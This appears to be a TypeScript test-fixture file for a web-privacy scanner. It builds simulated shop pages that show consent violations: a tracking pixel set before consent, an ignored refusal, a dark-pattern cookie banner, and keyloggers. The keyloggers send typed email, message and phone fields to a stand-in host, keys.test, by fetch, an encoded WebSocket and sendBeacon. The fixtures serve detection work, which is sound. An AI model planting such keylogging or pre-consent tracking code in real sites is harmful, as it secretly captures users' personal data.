// Consent asked for too late, not heeded, made hard, or for good; and typing that is listened to.

import { bare, chance, page, reply, script, type Technique } from "./technique.ts";

const load = `const load = (then) => {
  const pixel = new Image();
  pixel.onload = pixel.onerror = then;
  pixel.src = "https://bidder.criteo.com/pixel?" + Math.random().toString(16).slice(2, 6);
};`;
const bidder = {
  "bidder.criteo.com/pixel": reply(() => ({
    "set-cookie": `uid=${chance()}; Domain=criteo.com; Max-Age=2592000; Secure; SameSite=None`,
  })),
};
const uid = "uid (criteo.com)";
const pixel =
  /^(request GET https:\/\/bidder\.criteo\.com\/pixel\?\w+|cookie (header|jar) uid \.?criteo\.com)$/;

const early: Technique = {
  title: "a tracker and its cookie before the choice",
  visits: ["arrive", "accept"],
  site: (deed) => ({
    "shop.test/": page(
      script(
        `${load} ${deed ? "load();" : 'addEventListener("chosen", ({ detail }) => detail === "yes" && load());'}`,
      ),
    ),
    ...bidder,
  }),
  finds: {
    "third-parties-before-choice": {
      what: ["criteo.com"],
      witness: /^request GET https:\/\/bidder\.criteo\.com\//,
    },
    "identifiers-before-choice": { what: [uid], witness: pixel },
  },
};

const refusal: Technique = {
  title: "a refusal that is not honoured",
  visits: ["refuse"],
  site: (deed) => ({
    "shop.test/": page(
      script(
        `${load} addEventListener("chosen", ({ detail }) => ${deed ? "true" : 'detail === "yes"'} && load(() => load()));`,
      ),
    ),
    ...bidder,
  }),
  finds: { "refusal-not-honoured": { what: ["criteo.com", uid], witness: pixel } },
};

/** Yes is a button on the first layer; no stands behind settings, in which a purpose is ticked. Nothing brings it back. */
const trap = `<div id=consent style="position:fixed;bottom:0;left:0;right:0;padding:20px;background:#fff;border:1px solid">
  <p>We use cookies to measure how our shop is used.</p>
  <div id=first><button onclick="gone()">Accept all</button> <button onclick="more()">Settings</button></div>
  <div id=second hidden><label><input type=checkbox checked> Statistics</label>
    <button onclick="gone()">Reject all</button> <button onclick="gone()">Accept all</button></div></div>
  ${script(`const gone = () => document.getElementById("consent").remove();
    const more = () => { document.getElementById("first").remove(); document.getElementById("second").hidden = false; };`)}`;

const hard: Technique = {
  title: "a refusal that is hard, ticked beforehand, and for good",
  visits: ["refuse", "accept"],
  site: (deed) => ({ "shop.test/": deed ? bare(trap) : page() }),
  finds: {
    "refusal-harder-than-acceptance": { what: ["layer"], witness: /^choice (refuse|accept) done$/ },
    "preticked-or-missing-refusal": { what: ["preticked: Statistics"], witness: /^choice refuse done$/ },
    "no-withdrawal": { what: ["no-withdrawal"], witness: /^choice accept done$/ },
  },
};

const typing = (event: string, deed: boolean, sent: string) =>
  page(
    `<form action="/ask"><label>E-mail <input type=email name=mail></label><button>Send</button></form>${script(
      `document.querySelector("input").addEventListener("${event}", async ({ target }) => {
        const digest = async (text) => Array.from(new Uint8Array(await crypto.subtle.digest("SHA-256", new TextEncoder().encode(text))),
          (byte) => byte.toString(16).padStart(2, "0")).join("");
        fetch("https://keys.test/k", { method: "POST", mode: "no-cors", body: ${deed ? sent : "String(target.value.length)"} });
      });`,
    )}`,
  );

const sent = {
  "typed-text-before-submit": ["keys.test"],
  "personal-data-to-third-parties": ["email → keys.test"],
};

const keys: Technique = {
  title: "key logging",
  visits: ["type"],
  site: (deed) => ({ "shop.test/": typing("input", deed, "target.value"), "keys.test/k": "" }),
  finds: {
    "key-logging": { what: ["keys.test"], witness: /^disclosure email body https:\/\/keys\.test\/k$/ },
  },
  beside: sent,
};

const typed: Technique = {
  title: "typed text sent as a hash before submitting, which is no key logging",
  visits: ["type"],
  site: (deed) => ({ "shop.test/": typing("change", deed, "await digest(target.value)"), "keys.test/k": "" }),
  finds: {
    "typed-text-before-submit": {
      what: ["keys.test"],
      witness: /^disclosure email body https:\/\/keys\.test\/k$/,
    },
    "personal-data-to-third-parties": {
      what: ["email → keys.test"],
      witness: /^disclosure email body https:\/\/keys\.test\/k$/,
    },
  },
};

const socket: Technique = {
  title: "key logging through a socket, encoded",
  visits: ["type"],
  site: (deed) => ({
    "shop.test/": page(
      `<form action="/ask"><label>Message <textarea name=message></textarea></label></form>${script(
        `const socket = new WebSocket("wss://keys.test/live");
         document.querySelector("textarea").addEventListener("input", ({ target }) =>
           socket.send(JSON.stringify({ at: Date.now(), v: btoa(${deed ? "target.value.slice(0, 40)" : "target.value.length"}) })));`,
      )}`,
    ),
    "keys.test/live": "",
  }),
  finds: {
    "key-logging": {
      what: ["keys.test"],
      witness: /^disclosure text message wss:\/\/keys\.test\/live$/,
    },
  },
  both: { "third-parties-before-choice": ["keys.test"] },
  beside: {
    "third-parties-before-choice": ["keys.test"],
    "typed-text-before-submit": ["keys.test"],
    "personal-data-to-third-parties": ["text → keys.test"],
  },
};

const leaving: Technique = {
  title: "typed text sent as the page is left",
  visits: ["type"],
  site: (deed) => ({
    "shop.test/": page(
      `<form action="/ask"><label>Phone <input type=tel name=phone></label></form>${script(
        `addEventListener("pagehide", () => navigator.sendBeacon("https://keys.test/k",
           JSON.stringify({ field: ${deed ? 'document.querySelector("input").value' : '"phone"'} })));`,
      )}`,
    ),
    "keys.test/k": "",
  }),
  finds: {
    "typed-text-before-submit": {
      what: ["keys.test"],
      witness: /^disclosure phone body https:\/\/keys\.test\/k$/,
    },
  },
  beside: { "personal-data-to-third-parties": ["phone → keys.test"] },
};

export const choices: readonly Technique[] = [early, refusal, hard, keys, socket, typed, leaving];
